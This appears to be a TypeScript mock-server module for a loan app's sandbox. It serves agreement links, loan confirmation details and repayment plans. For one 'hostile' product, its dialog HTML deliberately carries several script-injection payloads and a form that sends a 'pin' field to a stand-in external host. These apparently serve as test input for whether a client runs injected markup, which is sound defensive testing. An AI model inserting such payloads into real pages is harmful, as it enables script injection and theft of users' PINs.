import { calls } from '@loan/api/calls';

import { type CallContext, endpoint, Refusal } from '../api/endpoint';
import { endOfDay, timeText } from '../clock';
import { amountText, moneyText, percentText } from '../money';
import { ownOrder } from '../orders/orders';
import { instalmentsOf, interestOf, offeredProduct, type Product, stepDays } from './products';

/** Address of an agreement on the sandbox; it contains the market and nothing of the session. */
function agreementAddress(index: number, { own, market }: CallContext): string {
  return `${own}/sandbox/agreement/${index}?market=${market === 'india' ? 1 : 2}`;
}

export const contracts = endpoint(calls.contracts, async (context, { productId }) => {
  offeredProduct(productId, context);
  return Promise.resolve(context.texts.agreements.map(({ title }) => ({ title })));
});

export const contractJump = endpoint(calls.contractJump, async (context, fields) => {
  offeredProduct(fields.productId, context);
  if (fields.orderId !== '') await ownOrder(context, fields);
  const index = Number(fields.position);
  if (index >= context.texts.agreements.length) throw new Refusal('agreementUnknown');
  return { contract_url: agreementAddress(index, context) };
});

export const loanConfirm = endpoint(calls.loanConfirm, async (context, { productId }) => {
  const product = offeredProduct(productId, context);
  const { texts, now } = context;
  const money = (amount: number) => moneyText(amount, product.market);
  const plan = instalmentsOf(product);
  const due = plan.map((_, index) => timeText(endOfDay(now, stepDays(product) * (index + 1), product.market), product.market));
  return Promise.resolve({
    productLogo: `${context.own}/sandbox/pictures/${product.picture}`,
    productName: product.name,
    amount: amountText(product.amount, product.market),
    periods: String(product.periods),
    termUnit: texts.units[product.unit](product.periods),
    details: [
      { text: texts.confirm.interest, value: money(interestOf(product)) },
      { text: texts.confirm.fee, value: money(product.fee) },
      { text: texts.confirm.received, value: money(product.amount - product.fee) },
    ],
    detail1: texts.confirm.detail1,
    detail2: texts.confirm.detail2,
    repay_plans: plan.map((amount, index) => ({
      title: texts.confirm.plan(index + 1, plan.length),
      description: texts.confirm.planDescription,
      amount: amountText(amount, product.market),
      pay_time: due[index] ?? '',
    })),
    firstPayTime: due[0] ?? '',
    firstPeriodDay: String(stepDays(product)),
    pRateDsc: texts.confirm.rate(percentText(product.monthlyRate, product.market)),
    sendSms: '0',
    isPopType: product.popup === 'none' ? '0' : '1',
    popContent: product.popup === 'none' ? '' : popContent(product, context),
    popTitle: product.popup === 'none' ? '' : texts.confirm.popTitle,
    popAgreementUrl: product.popup === 'none' ? '' : agreementAddress(0, context),
    note: texts.confirm.note,
    sp_rate: String(product.monthlyRate / 10),
  });
});

/** HTML of the agreement dialog, as a server writes it: tags with attributes; for one product also code that must never run. */
function popContent(product: Product, { texts }: CallContext): string {
  const cells = texts.confirm.popRows.map(([name, value]) => `<tr><td class="k">${name}</td><td style="color:#333">${value}</td></tr>`);
  const usual = `<p>${texts.confirm.popIntro}</p><table border="1">${cells.join('')}</table><p><b>${product.name}</b></p>`;
  if (product.popup !== 'hostile') return usual;
  return (
    `${usual}<script>window.hostileRan=1</script><img src="x" onerror="window.hostileRan=1"><a href="javascript:window.hostileRan=1">${product.name}</a>` +
    '<svg onload="window.hostileRan=1"></svg><iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe><form action="https://hostile.example"><input name="pin"></form>'
  );
}
